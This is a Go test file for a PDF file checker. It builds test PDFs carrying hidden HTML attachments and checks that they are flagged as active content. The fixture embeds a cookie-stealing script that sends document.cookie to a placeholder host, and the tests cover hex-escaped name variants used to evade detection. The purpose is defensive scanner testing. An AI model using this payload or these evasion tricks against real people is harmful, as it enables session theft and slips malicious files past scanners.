package filecheck

import (
	"strings"
	"testing"
)

// attachedHTML is the page an attacker attaches: a script that runs when
// whoever opens the PDF opens the attachment in a browser.
const attachedHTML = "<!doctype html><html><body><script>fetch('https://x.invalid/?c='+document.cookie)</script></body></html>"

// attachmentPDF is a one-page PDF with an attachment written as
// producers may, without the optional /Type /EmbeddedFile (ISO 32000-1
// Table 44): in the catalog's /EmbeddedFiles name tree when tree is set,
// and as a /FileAttachment annotation on the page when annot is set. The
// file's bytes are compressed, so that only the names tell.
func attachmentPDF(tree, annot bool) []byte {
	w := newPDFWriter("1.7")
	names := ""
	if tree {
		names = " /Names << /EmbeddedFiles << /Names [ (factura.html) 5 0 R ] >> >>"
	}
	w.obj(1, "<< /Type /Catalog /Pages 2 0 R"+names+" >>")
	w.obj(2, "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>")
	annots := ""
	if annot {
		annots = " /Annots [ 4 0 R ]"
	}
	w.obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ]"+annots+" >>")
	if annot {
		w.obj(4, "<< /Type /Annot /Subtype /FileAttachment /Rect [ 72 700 92 720 ] /Name /PushPin /FS 5 0 R /Contents (factura) >>")
	}
	w.obj(5, "<< /Type /Filespec /F (factura.html) /UF (factura.html) /EF << /F 6 0 R >> >>")
	w.stream(6, " /Filter /FlateDecode", deflate([]byte(attachedHTML)))
	w.xref(" /Root 1 0 R")
	return w.bytes()
}

// TestPDFAttachmentWithoutType (issue 32, finding 3): an attachment
// without /Type /EmbeddedFile, in the name tree or as an annotation, is
// refused by the names every attachment has (/EmbeddedFiles, /EF,
// /FileAttachment), in the file's text or in an object stream; pdf.js
// and qpdf list the attachment of each file, as the attacker said.
func TestPDFAttachmentWithoutType(t *testing.T) {
	for _, c := range []struct {
		name string
		pdf  []byte
		want []string // readers that must list the attachment
	}{
		{"name tree", attachmentPDF(true, false), []string{"pdf.js", "qpdf"}},
		{"annotation", attachmentPDF(false, true), []string{"pdf.js"}},
		{"both", attachmentPDF(true, true), []string{"pdf.js", "qpdf"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if code := fileKind(t, c.pdf, testLimits()); code != ActiveContent {
				t.Fatalf("got %q, want %s", code, ActiveContent)
			}
			got := readersFind(t, c.pdf)
			if who := readersThatFind(got, "attachment"); !containsAll(who, c.want) {
				t.Fatalf("the attachment is listed by %v, want %v: %v", who, c.want, got)
			}
		})
	}
	for _, name := range []string{"/EmbeddedFiles", "/EF", "/FileAttachment", "/Embedded#46iles", "/#45F"} {
		t.Run(name+" alone", func(t *testing.T) {
			if code := fileKind(t, onePagePDF(" "+name+" 4 0 R"), testLimits()); code != ActiveContent {
				t.Fatalf("got %q, want %s", code, ActiveContent)
			}
			if code := fileKind(t, objStmPDF(" "+name+" << >>"), testLimits()); code != ActiveContent {
				t.Fatalf("in an object stream: got %q, want %s", code, ActiveContent)
			}
		})
	}
}

func containsAll(have, want []string) bool {
	for _, w := range want {
		if !strings.Contains(" "+strings.Join(have, " ")+" ", " "+w+" ") {
			return false
		}
	}
	return true
}
